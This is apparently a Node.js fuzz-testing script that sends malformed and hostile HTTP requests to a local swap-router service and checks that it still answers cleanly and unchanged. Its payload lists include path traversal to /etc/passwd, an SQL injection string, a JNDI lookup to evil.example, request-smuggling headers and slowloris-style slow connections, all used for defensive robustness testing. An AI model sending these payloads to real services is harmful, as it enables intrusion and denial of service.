// Sends requests that nobody should send to a running service, and checks that each is answered with the envelope, that
// none is taken for a fault of the server, and that the service quotes as before afterwards.
// Usage: node scripts/hostile-http.mjs URL [COUNT [SEED]], e.g. of `scripts/swaplab serve`: http://127.0.0.1:8097 26000 1
import net from 'node:net';
import { mistyped } from './words.mjs';

const [address = 'http://127.0.0.1:8097', ...numbers] = process.argv.slice(2);
const wrong = !URL.canParse(address) ? address : (numbers.find((word) => !/^\d{1,9}$/.test(word)) ?? numbers[2]);
if (wrong !== undefined) mistyped(`expected a URL, a count and a seed, got "${wrong}"`, 'usage: node scripts/hostile-http.mjs http://127.0.0.1:8097 26000 1');
const target = new URL(address);
const count = Number(numbers[0] ?? 26000);
let state = Number(numbers[1] ?? 1) >>> 0 || 1;
const AT_ONCE = 48;
const PATIENCE_MS = 30_000;

const random = (below) => {
  // xorshift32: small, seeded, the same on every machine.
  state ^= state << 13;
  state ^= state >>> 17;
  state ^= state << 5;
  return (state >>> 0) % below;
};
const one = (list) => list[random(list.length)];
const junk = (length) => Array.from({ length }, () => String.fromCharCode(random(256))).join('');
const hex = (length) => Array.from({ length }, () => '0123456789abcdef'[random(16)]).join('');

const PATHS = ['/router/status', '/router/find_routes', '/router/swap', '/router/swap/prepare', '/router/swap/build',
  '/', '/error', '/router', '/router/status/', '//router/status', '/router/../router/status', '/%2e%2e/etc/passwd',
  '/router/status;v=1', '/router/%00', '/ROUTER/STATUS', '/actuator', '*', 'http://evil.example/router/status'];
const METHODS = ['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'HEAD', 'OPTIONS', 'TRACE', 'CONNECT', 'PROPFIND', 'get', 'G\0T', ''];
const VERSIONS = ['HTTP/1.1', 'HTTP/1.1', 'HTTP/1.1', 'HTTP/1.0', 'HTTP/2.0', 'HTTP/0.9', 'HTTP/9.9', 'HTTP', 'FTP/1.1', ''];
const NAMES = ['from', 'target', 'amount', 'depth', 'split_count', 'providers', 'v', 'by_amount_in', 'payer', 'executor',
  'recipient', 'sender', 'slippage_bps', 'deadline_secs', 'custom_fee_bps', 'custom_fee_receiver', 'native_in', 'native_out',
  'gas_price', 'unknown', '', '__proto__'];
const VALUES = [() => '0x' + hex(40), () => '0x' + '0'.repeat(40), () => '0x' + hex(random(80)), () => String(random(1e9)),
  () => '-1', () => '1e18', () => '0', () => '9'.repeat(78), () => '9'.repeat(random(2000)), () => 'true', () => 'TRUE',
  () => '', () => '%', () => '%zz', () => '%00', () => '%F0%9F%92%A9', () => 'PANCAKEV2,,', () => encodeURIComponent(junk(20)),
  () => '0xEeeeeEeeeEeEeeEeEeEeeEEEeeeeEeeeeeeeEEeE', () => "' OR 1=1 --", () => '${jndi:ldap://evil.example}'];
const HEADERS = [() => 'Content-Type: application/json', () => 'Content-Type: text/plain', () => 'Accept: text/html',
  () => 'Accept: */*', () => 'Transfer-Encoding: chunked', () => 'Transfer-Encoding: gzip, chunked',
  () => 'Transfer-Encoding: identity', () => 'Content-Length: 5', () => 'Content-Length: -5', () => 'Content-Length: 99999999999',
  () => 'Content-Length: abc', () => 'Expect: 100-continue', () => 'Expect: nonsense', () => 'Upgrade: h2c',
  () => 'Connection: Upgrade', () => 'Content-Encoding: gzip', () => 'Origin: http://evil.example', () => 'Host: evil.example',
  () => 'Range: bytes=0-1', () => 'Cookie: ' + 'a'.repeat(random(9000)), () => 'X: ' + junk(random(40)), () => ': empty',
  () => 'X-Forwarded-For: 127.0.0.1', () => ' folded: line', () => 'Accept-Language: ' + '*,'.repeat(random(500)),
  () => 'Authorization: Basic ' + hex(40), () => 'If-None-Match: *', () => 'X-HTTP-Method-Override: DELETE'];
const BODIES = [() => '', () => '{}', () => '[]', () => 'null', () => '{"quote_id":1}', () => '{"quote_id":"0x' + hex(64)
  + '","payer_signature":"0x' + hex(130) + '"}', () => '{"quote_id":"0x' + hex(64) + '","payer_signature":"0x' + hex(128)
  + '"}', () => '{'.repeat(5000), () => '['.repeat(3000), () => '{"a":' + '9'.repeat(4000) + '}', () => 'x'.repeat(20000), () => 'x'.repeat(80000),
  () => '5\r\nhello\r\n0\r\n\r\n', () => 'ffffffff\r\n', () => 'zz\r\n', () => junk(200), () => '\u0000'.repeat(100),
  () => '{"quote_id":"a","quote_id":"b"}', () => '{"quote_id":"0x' + hex(64) + '","quote_token":"' + hex(3000)
  + '","payer_signature":"0x' + hex(130) + '"}', () => '{"quote_token":7}', () => '{"payer_signature":null}'];

function request() {
  const kind = random(20);
  if (kind === 0) return { raw: junk(1 + random(400)) + '\r\n\r\n', head: false };
  if (kind === 1) return { raw: 'GET /router/status HTTP/1.1\r\n' + 'a'.repeat(random(20000)), head: false, cut: true };
  const method = one(METHODS);
  const query = Array.from({ length: random(8) }, () => one(NAMES) + '=' + one(VALUES)()).join('&');
  const path = one(PATHS) + (query ? '?' + query : '') + (random(30) === 0 ? '#' + junk(5) : '');
  const body = one(BODIES)();
  const headers = ['Host: ' + (random(10) ? target.host : one(['', 'a b', 'evil.example', '[::1]']))];
  for (let i = random(4); i > 0; i--) headers.push(one(HEADERS)());
  if (body && random(4)) headers.push('Content-Length: ' + Buffer.byteLength(body, 'latin1'));
  if (random(3)) headers.push('Connection: close');
  const raw = `${method} ${path} ${one(VERSIONS)}\r\n${headers.join('\r\n')}\r\n\r\n${body}`;
  return { raw, head: method === 'HEAD', cut: random(12) === 0 };
}

/** Everything the server says until it ends, or is silent for as long as a person would wait. */
function exchange({ raw, cut }) {
  return new Promise((resolve) => {
    const socket = net.connect({ host: target.hostname, port: Number(target.port) });
    let answer = Buffer.alloc(0);
    const end = (how) => {
      socket.destroy();
      resolve({ answer: answer.toString('latin1'), how });
    };
    // A kept connection stays open after its answer; a half request is never answered: both end here.
    const quiet = setInterval(() => { if (answer.length > 0) end('kept'); }, 400);
    const late = setTimeout(() => end('silent'), cut ? 500 : PATIENCE_MS);
    socket.on('data', (more) => { answer = Buffer.concat([answer, more]); });
    socket.on('error', () => end('reset'));
    socket.on('close', () => { clearInterval(quiet); clearTimeout(late); end('closed'); });
    socket.write(raw, 'latin1');
    if (!cut) socket.end();
  });
}

function isEnvelope(text) {
  try {
    const envelope = JSON.parse(text);
    return Number.isInteger(envelope.code) && typeof envelope.msg === 'string' && 'data' in envelope;
  } catch {
    return false;
  }
}

/** What is wrong with an answer, or nothing. */
function fault({ raw, head, cut }, { answer, how }) {
  if (answer === '') return how === 'silent' && !cut ? 'no answer' : null;
  const status = /^HTTP\/1\.[01] (\d{3})/.exec(answer)?.[1];
  // Answers of HTTP/0.9, which a first line without a version is taken for, have no head.
  if (!status) return isEnvelope(answer) ? null : 'no status line';
  if (status.startsWith('1')) return null;
  if (status.startsWith('5') && status !== '501' && status !== '505') return 'status ' + status;
  if (/<html|tomcat|exception|io\.swaplab/i.test(answer)) return 'more than an envelope';
  const text = answer.slice(answer.indexOf('\r\n\r\n') + 4);
  if (head || text === '') return head ? null : 'no body with ' + status;
  const json = /\r\ntransfer-encoding: chunked/i.test(answer) ? text.split('\r\n')[1] : text;
  const length = /\r\ncontent-length: (\d+)/i.exec(answer)?.[1];
  return isEnvelope(length ? json.slice(0, Number(length)) : json) ? null : 'no envelope with ' + status;
}

/** Slow callers, who send a byte every few seconds and must not keep others from being served. */
function trickler() {
  const socket = net.connect({ host: target.hostname, port: Number(target.port) });
  const raw = `POST /router/swap/build HTTP/1.1\r\nHost: ${target.host}\r\nContent-Type: application/json\r\nContent-Length: 90\r\n\r\n`;
  let at = 0;
  const timer = setInterval(() => { if (at < raw.length + 80) socket.write(raw[at++] ?? ' '); }, 1000);
  socket.on('error', () => {});
  socket.on('close', () => clearInterval(timer));
  return socket;
}

const statuses = new Map();
const faults = new Map();
let sent = 0;
async function worker() {
  while (sent < count) {
    sent++;
    const asked = request();
    const got = await exchange(asked);
    const status = /^HTTP\/1\.[01] (\d{3})/.exec(got.answer)?.[1] ?? got.how;
    statuses.set(status, (statuses.get(status) ?? 0) + 1);
    const wrong = fault(asked, got);
    if (wrong) {
      faults.set(wrong, (faults.get(wrong) ?? 0) + 1);
      if (faults.get(wrong) <= 3) console.log(`${wrong}: ${JSON.stringify(asked.raw.slice(0, 300))} -> ${JSON.stringify(got.answer.slice(0, 200))}`);
    }
  }
}

const before = await (await fetch(new URL('/router/status', target))).json();
const slow = Array.from({ length: 100 }, trickler);
const start = Date.now();
await Promise.all(Array.from({ length: AT_ONCE }, worker));
const after = await (await fetch(new URL('/router/status', target))).json();
slow.forEach((socket) => socket.destroy());
console.log(`${sent} requests in ${((Date.now() - start) / 1000).toFixed(0)} s beside 100 slow callers`);
console.log('answers: ' + [...statuses].sort().map(([status, n]) => `${status} ${n}`).join(', '));
console.log('faults: ' + ([...faults].map(([what, n]) => `${what} ${n}`).join(', ') || 'none'));
const same = JSON.stringify(before.data.providers) === JSON.stringify(after.data.providers) && after.code === 200;
console.log(same ? 'the service answers as before' : 'the service does not answer as before');
process.exit(faults.size === 0 && same ? 0 : 1);
